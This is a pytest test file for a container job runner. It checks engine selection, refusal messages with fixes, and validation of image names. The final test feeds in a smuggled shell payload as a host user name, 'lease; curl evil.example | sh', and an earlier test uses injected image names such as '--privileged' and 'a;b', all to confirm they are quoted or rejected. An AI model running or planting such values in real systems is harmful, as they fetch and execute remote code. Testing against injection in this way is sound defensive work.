# SPDX-License-Identifier: Apache-2.0
"""A job that runs in a container: which hosts are refused and with which sentence, and what is sent."""

from pathlib import Path

import pytest
from msgspec.structs import replace

from rekindle.jobs import NoRunError, foresee_jobs, load_job, name_image_archive, prepare_spec
from rekindle.jobs.containers import _lack
from rekindle.records import (
    Container,
    Engine,
    EnvRecord,
    HostRecord,
    PlanRecord,
    RecordError,
    RunSpec,
    convert_builtins,
    read_record,
)
from rekindle.records import dump_builtins as plain

REPOSITORY = Path(__file__).parents[3]
IMAGE = "nvcr.io/nvidia/clara/bionemo-framework:2.5"
DOCKER = Engine(path="/usr/bin/docker", version="29.0.1", nvidia=True)
PODMAN = Engine(name="podman", path="/usr/bin/podman", version="4.3.1", cdi=True)
APPTAINER = Engine(name="apptainer", path="/usr/bin/apptainer", version="1.4.5")
DEAD = Engine(path="/usr/bin/docker", version=None, message="Cannot connect to the Docker daemon")
DENIED = replace(DEAD, message="permission denied while trying to connect to the Docker daemon socket")
UNMAPPED = replace(PODMAN, message="it has no subordinate ids in /etc/subuid")


@pytest.fixture
def job():
    return load_job(REPOSITORY / "flare_jobs", "examples/bionemo-tap")


@pytest.fixture
def placed(recordings, job):
    """Return what comes of the example on the recorded host with an engine: foreseen, and prepared."""
    folder = recordings / "h200-x2"
    plan, env = read_record(folder / "plan.json", PlanRecord), read_record(folder / "env.json", EnvRecord)

    def on(*engines, **changes):
        host = replace(read_record(folder / "host.json", HostRecord), host="h200", engines=engines, **changes)
        (foreseen,) = foresee_jobs([job], host, plan, None)
        try:
            return foreseen.refusal, prepare_spec(job, host, plan, env, "/tmp/rekindle/tmp")
        except NoRunError as reason:
            return foreseen.refusal, reason

    return on


@pytest.mark.parametrize(
    "engines",
    [
        (),
        (DEAD,),
        (DENIED,),
        (replace(DOCKER, nvidia=False),),
        (replace(PODMAN, cdi=False),),
        (UNMAPPED,),
        (replace(PODMAN, version=None, message="runtime not found"),),
    ],
    ids=["none", "dead", "group", "toolkit", "cdi", "subuids", "no answer"],
)
def test_a_host_that_cannot_run_it_is_unsupported_with_a_sentence_and_its_fix(golden, placed, engines):
    refusal, reason = placed(*engines)
    assert reason.verdict == "UNSUPPORTED"
    assert str(refusal) == f"{reason.message} Fix: {reason.fix}"
    golden(str(refusal))


@pytest.mark.parametrize(
    ("engines", "taken"),
    [
        ((DEAD, PODMAN), PODMAN),
        ((DOCKER, PODMAN), DOCKER),
        ((replace(DOCKER, nvidia=False, cdi=True),), replace(DOCKER, nvidia=False, cdi=True)),
        ((replace(DOCKER, nvidia=False), replace(PODMAN, cdi=False), APPTAINER), APPTAINER),
    ],
)
def test_the_first_engine_that_gives_gpus_is_taken(placed, engines, taken):
    refusal, spec = placed(*engines)
    assert (refusal, spec.engine) == (None, taken)


def test_a_host_without_gpus_needs_no_toolkit_and_lacks_the_gpu(placed):
    refusal, _ = placed(replace(DOCKER, nvidia=False), gpus=())
    assert str(refusal).startswith("bionemo-tap needs 1 GPUs and h200 has none.")


def test_a_host_that_can_gets_the_engine_and_no_versions_of_what_is_not_run(placed):
    refusal, spec = placed(PODMAN)
    assert refusal is None
    assert isinstance(spec, RunSpec)
    assert spec.engine == PODMAN
    assert spec.versions == {"image": IMAGE, "engine": "Podman 4.3.1", "driver": "580.159.04"}


@pytest.mark.parametrize("name", ["pt_ddp", "examples/hello-numpy"])
def test_any_job_may_name_an_image_and_others_need_no_engine(recordings, name):
    folder = recordings / "h200-x2"
    host, plan = read_record(folder / "host.json", HostRecord), read_record(folder / "plan.json", PlanRecord)
    job = load_job(REPOSITORY / "flare_jobs", name)
    assert (host.engines, job.image) == ((), None)
    assert foresee_jobs([job], host, plan, None)[0].refusal is None
    inside = replace(job, container=Container(image=IMAGE))
    (foreseen,) = foresee_jobs([inside], host, plan, None)
    assert str(foreseen.refusal).startswith(f"{job.name} runs in the container {IMAGE}, and ")


def test_an_example_may_have_it_too_as_in_older_job_ymls(job):
    example = replace(job.example, container=Container(image="older:1"))
    assert replace(job, container=None, example=example).image == "older:1"
    assert replace(job, example=example).image == IMAGE


@pytest.mark.parametrize("image", ["--privileged", "a b", "", "-v", "a\n", "a;b"])
def test_an_image_is_no_option(job, image):
    data = plain(job)
    data["container"]["image"] = image
    with pytest.raises(RecordError):
        convert_builtins(data, type(job))


def test_the_archive_of_an_image_is_a_plain_file():
    assert name_image_archive(IMAGE) == "nvcr.io-nvidia-clara-bionemo-framework-2.5.tar"


@pytest.mark.parametrize("engine", [DEAD, DENIED, UNMAPPED])
def test_what_a_host_says_of_its_user_and_its_engine_is_one_word_of_a_command(recordings, engine):
    user, path = "lease; curl evil.example | sh", "/x; y"
    host = replace(read_record(recordings / "h200-x2/host.json", HostRecord), user=user)
    fix = _lack(replace(engine, path=path), host).fix
    assert user not in fix.replace(f"'{user}'", "")
    assert path not in fix.replace(f"'{path}'", "")
